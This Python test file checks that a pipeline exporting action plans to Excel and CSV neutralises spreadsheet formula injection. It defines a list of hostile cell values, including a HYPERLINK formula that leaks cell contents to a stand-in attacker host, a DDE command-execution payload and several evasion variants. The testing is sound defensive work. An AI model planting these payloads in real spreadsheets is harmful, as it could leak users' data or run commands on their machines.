"""Document text never becomes a formula or a link in the workbook, nor a live cell in a CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pandas as pd

from pipeline.export import FailedFile, write_combined, write_csv
from pipeline.models import Action, ActionPlan, Owner, PlanInfo, Recommendation, Source, Target
from pipeline.spreadsheet_safety import (
    CSV_QUOTING,
    neutralise_csv_cell,
    safe_csv_row,
    safe_workbook,
    write_safe_csv,
)

HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?leak="&A2,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "http://attacker.invalid/track.png",
    "a;=1+1",
    'x","=1+1',
    "1e5",
]


def hostile_plan(file: str = "=1+1.pdf") -> ActionPlan:
    """A plan whose every text field (and file name) is one of the hostile strings."""
    recs = []
    for n, text in enumerate(HOSTILE, start=1):
        recs.append(Recommendation(
            number=text, text=text, response_raw=text, reason=text, section=text, page=1,
            actions=[Action(number=text, text=text, owners=[Owner(raw=text)],
                            target=Target(raw=text, start=dt.date(2021, 1, n)))],
        ))
    return ActionPlan(
        source=Source(file=file, format="pdf", sha256="0" * 64, pages=1),
        plan=PlanInfo(title=HOSTILE[0], organisation=HOSTILE[1]),
        recommendations=recs,
    )


def test_workbook_holds_hostile_strings_as_plain_string_cells(tmp_path: Path) -> None:
    failures = [FailedFile(h, "damaged", h) for h in HOSTILE]
    write_combined([hostile_plan(), hostile_plan("@x.docx")], failures, tmp_path)

    book = openpyxl.load_workbook(tmp_path / "plans.xlsx")
    formulas, links, texts = [], [], set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(cell.coordinate)
                if cell.hyperlink is not None:
                    links.append(cell.coordinate)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    assert formulas == []
    assert links == []
    # Kept exactly as written (a string cell is inert), not mangled or turned into numbers.
    assert set(HOSTILE) - {"\r=1+1"} <= texts
    assert "=1+1.pdf" in texts and "@x.docx" in texts
    raw = (tmp_path / "plans.xlsx").read_bytes()
    assert b"<f>" not in raw and b"hyperlink" not in raw.lower()


def test_csv_cells_that_start_like_a_formula_are_prefixed_and_all_fields_quoted(
    tmp_path: Path,
) -> None:
    write_combined([hostile_plan()], [FailedFile("-x.pdf", "damaged", "@bad")], tmp_path)
    write_csv(hostile_plan(), tmp_path / "one.csv")
    for name in ("actions.csv", "recommendations.csv", "errors.csv", "one.csv"):
        text = (tmp_path / name).read_bytes().decode("utf-8-sig")
        rows = list(csv.reader(io.StringIO(text, newline="")))
        cells = [cell for row in rows for cell in row]
        live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))]
        assert live == [], (name, live)
        assert "'=cmd|' /C calc'!A0" in cells or name == "errors.csv"
        # Every field quoted: a ';' locale cannot split "a;=1+1" into a live second cell.
        header = text.split("\r\n", 1)[0]
        assert header == ",".join(f'"{c}"' for c in rows[0])
        assert '"a;=1+1"' in text or name == "errors.csv"
    errors = pd.read_csv(tmp_path / "errors.csv", encoding="utf-8-sig", dtype=str)
    assert errors.to_dict("records") == [{"file": "'-x.pdf", "kind": "damaged", "reason": "'@bad"}]


def test_plain_values_are_left_alone() -> None:
    assert neutralise_csv_cell("Head of Service") == "Head of Service"
    assert neutralise_csv_cell("1.1") == "1.1"
    assert neutralise_csv_cell(-3) == -3  # numbers we wrote ourselves are not text
    assert neutralise_csv_cell(None) is None
    assert safe_csv_row(["ok", "=1", 2]) == ["ok", "'=1", 2]


def test_helpers_for_other_writers(tmp_path: Path) -> None:
    out = io.StringIO()
    write_safe_csv(pd.DataFrame({"a": ["=1+1", "fine"], "n": [1, 2]}), out)
    assert out.getvalue().splitlines() == ['"a","n"', "\"'=1+1\",\"1\"", '"fine","2"']

    buffer = io.StringIO()
    csv.writer(buffer, quoting=CSV_QUOTING).writerow(safe_csv_row(["+SUM(A1)", "x"]))
    assert buffer.getvalue() == "\"'+SUM(A1)\",\"x\"\r\n"

    path = tmp_path / "direct.xlsx"
    book = safe_workbook(path)
    sheet = book.add_worksheet("S")
    for row, text in enumerate(HOSTILE):
        sheet.write(row, 0, text)  # write() guesses types; the options stop it guessing
    book.close()
    cells = [c for row in openpyxl.load_workbook(path)["S"].iter_rows() for c in row]
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)
